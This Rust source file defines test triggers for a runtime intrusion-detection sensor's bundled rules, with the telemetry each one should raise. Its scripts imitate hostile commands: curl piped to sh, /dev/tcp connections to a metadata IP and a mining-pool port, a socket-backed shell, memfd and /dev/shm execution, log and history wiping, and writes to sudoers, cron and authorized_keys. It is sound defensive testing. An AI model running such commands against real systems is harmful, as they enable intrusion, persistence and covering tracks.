use crate::rule_act::{Place, RuleAct};

/// One or more for each bundled rule. Those of one rule must differ in what it groups by.
pub(crate) const RULE_ACTS: &[RuleAct] = &[
    RuleAct {
        rule: "download-and-execute",
        place: Place::Folder,
        script: "sh -c 'curl -s http://127.0.0.1:1 | sh'",
        told: &[("process.command_args", r#"["sh","-c","curl -s http://127.0.0.1:1 | sh"]"#)],
    },
    RuleAct {
        rule: "new-binary-executed-in-container",
        place: Place::BelowInit,
        script: IN_CONTAINER,
        told: &[
            ("process.executable.path", "$1/layers/merged/vigie-act"),
            ("vigie.process.executable.overlay_upper", "true"),
        ],
    },
    RuleAct {
        rule: "metadata-service-access",
        place: Place::PrivateNetwork,
        script: "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'",
        told: &[("network.peer.address", "169.254.169.254"), ("network.peer.port", "80")],
    },
    RuleAct {
        rule: "pam-write",
        place: Place::PrivateFiles,
        script: ": > /etc/pam.d/vigie-act",
        told: &[("file.path", "/etc/pam.d/vigie-act")],
    },
    RuleAct {
        rule: "shadow-read-by-unexpected-program",
        place: Place::PrivateFiles,
        script: ": > /etc/shadow; cat /etc/shadow",
        told: &[("file.path", "/etc/shadow"), ("process.executable.name", "cat")],
    },
    RuleAct {
        rule: "log-deletion",
        place: Place::PrivateFiles,
        script: ": > /var/log/auth.log; rm /var/log/auth.log",
        told: &[("file.path", "/var/log/auth.log")],
    },
    RuleAct {
        rule: "code-injected-by-environment",
        place: Place::Folder,
        script: "env -i LD_PRELOAD=/tmp/vigie-act.so SECRET_TOKEN=x NODE_OPTIONS=--token=abc /bin/true",
        told: &[(
            "vigie.process.exec.environment",
            r#"["LD_PRELOAD=/tmp/vigie-act.so","NODE_OPTIONS=--token=[redacted]"]"#,
        )],
    },
    RuleAct {
        rule: "memfd-execution",
        place: Place::Folder,
        script: FROM_MEMORY,
        told: &[("process.executable.path", "/memfd:vigie-act"), ("vigie.process.executable.in_memory", "true")],
    },
    RuleAct {
        rule: "sensor-tampering",
        place: Place::Folder,
        script: "kill -STOP $2; kill -CONT $2",
        told: &[("vigie.tamper.kind", "signal")],
    },
    RuleAct {
        rule: "shell-history-deletion",
        place: Place::Folder,
        script: ": > .bash_history; rm .bash_history",
        told: &[("file.path", "$1/.bash_history")],
    },
    RuleAct {
        rule: "execution-from-dev-shm",
        place: Place::Folder,
        script: PROGRAM_IN_MEMORY,
        told: &[("process.executable.name", "program")],
    },
    RuleAct {
        rule: "execution-from-dev-shm",
        place: Place::Folder,
        script: SCRIPT_IN_MEMORY,
        told: &[("vigie.process.script.path", "./vigie-act.sh")],
    },
    RuleAct {
        rule: "execution-from-hidden-depth",
        place: Place::Folder,
        script: "deep=$(printf 'd/%.0s' $(seq 300)); mkdir -p $deep; cp /bin/true $deep/vigie-act; $deep/vigie-act",
        told: &[("process.executable.name", "vigie-act")],
    },
    RuleAct {
        rule: "reverse-shell-socket-stdin",
        place: Place::Folder,
        script: SOCKET_AS_STDIN,
        told: &[
            ("process.command_args", r#"["sh"]"#),
            ("vigie.process.stdin", "socket"),
            ("vigie.process.stdout", "socket"),
        ],
    },
    RuleAct {
        rule: "shell-opens-network-connection",
        place: Place::PrivateNetwork,
        script: "bash -c 'exec 3<>/dev/tcp/127.0.0.1/9'",
        told: &[("network.peer.address", "127.0.0.1"), ("network.peer.port", "9")],
    },
    RuleAct {
        rule: "web-server-spawns-shell",
        place: Place::Folder,
        script: "cp /bin/bash nginx; ./nginx -c '/bin/sh -c :; exit 0'",
        told: &[("vigie.process.parent.executable.path", "$1/nginx")],
    },
    RuleAct {
        rule: "miner-execution",
        place: Place::Folder,
        script: "cp /bin/true xmrig; ./xmrig",
        told: &[("process.executable.path", "$1/xmrig")],
    },
    RuleAct {
        rule: "miner-pool-connection",
        place: Place::PrivateNetwork,
        script: "cp /bin/bash agent; ./agent -c 'exec 3<>/dev/tcp/203.0.113.7/3333'",
        told: &[("process.executable.path", "$1/agent"), ("network.peer.port", "3333")],
    },
    RuleAct {
        rule: "authorized-keys-write",
        place: Place::Folder,
        script: "mkdir .ssh; : > .ssh/authorized_keys",
        told: &[("file.path", "$1/.ssh/authorized_keys")],
    },
    RuleAct {
        rule: "cron-write",
        place: Place::PrivateFiles,
        script: ": > /etc/cron.d/vigie-act",
        told: &[("file.path", "/etc/cron.d/vigie-act")],
    },
    RuleAct {
        rule: "ld-so-preload-write",
        place: Place::PrivateFiles,
        script: ": > /etc/ld.so.preload",
        told: &[("file.path", "/etc/ld.so.preload")],
    },
    RuleAct {
        rule: "persistence-file-replaced",
        place: Place::PrivateFiles,
        script: ": > /etc/vigie-act; mv /etc/vigie-act /etc/cron.d/vigie-act",
        told: &[("vigie.file.target.path", "/etc/cron.d/vigie-act")],
    },
    RuleAct {
        rule: "systemd-unit-write",
        place: Place::PrivateFiles,
        script: ": > /etc/systemd/system/vigie-act.service",
        told: &[("file.path", "/etc/systemd/system/vigie-act.service")],
    },
    RuleAct {
        rule: "sudoers-write",
        place: Place::PrivateFiles,
        script: ": > /etc/sudoers.d/vigie-act",
        told: &[("file.path", "/etc/sudoers.d/vigie-act")],
    },
];

const FROM_MEMORY: &str = "
python3 -c \"
import os
file = os.memfd_create('vigie-act')
os.write(file, open('/bin/true', 'rb').read())
os.execv(f'/proc/self/fd/{file}', ['from-memory'])\"
";

const PROGRAM_IN_MEMORY: &str = "
folder=$(mktemp -d -p /dev/shm vigie-act-XXXXXX)
cp /bin/true \"$folder/program\"
\"$folder/program\"
rm -r \"$folder\"
";

const SCRIPT_IN_MEMORY: &str = "
folder=$(mktemp -d -p /dev/shm vigie-act-XXXXXX)
cd \"$folder\"
printf '#!/bin/sh\\n' > vigie-act.sh
chmod +x vigie-act.sh
./vigie-act.sh
rm -r \"$folder\"
";

const SOCKET_AS_STDIN: &str = "
python3 -c \"
import socket, subprocess
near, far = socket.socketpair()
shell = subprocess.Popen(['sh'], stdin=far, stdout=far)
far.close()
near.close()
shell.wait()\"
";

/// In a control group that is named as Docker names them, with a writable layer. The unified hierarchy can be mounted wherever
/// the host has it.
const IN_CONTAINER: &str = "
set -e
mkdir groups layers
mount -t cgroup2 none groups
group=groups/docker/00000000000000000000000000000000000000000000000000000000000000ac
mkdir -p $group
mount -t tmpfs none layers
mkdir layers/lower layers/upper layers/work layers/merged
mount -t overlay -o lowerdir=layers/lower,upperdir=layers/upper,workdir=layers/work none layers/merged
cp /bin/true layers/merged/vigie-act
echo $$ > $group/cgroup.procs
layers/merged/vigie-act
echo $$ > groups/cgroup.procs
rmdir $group groups/docker || :
";
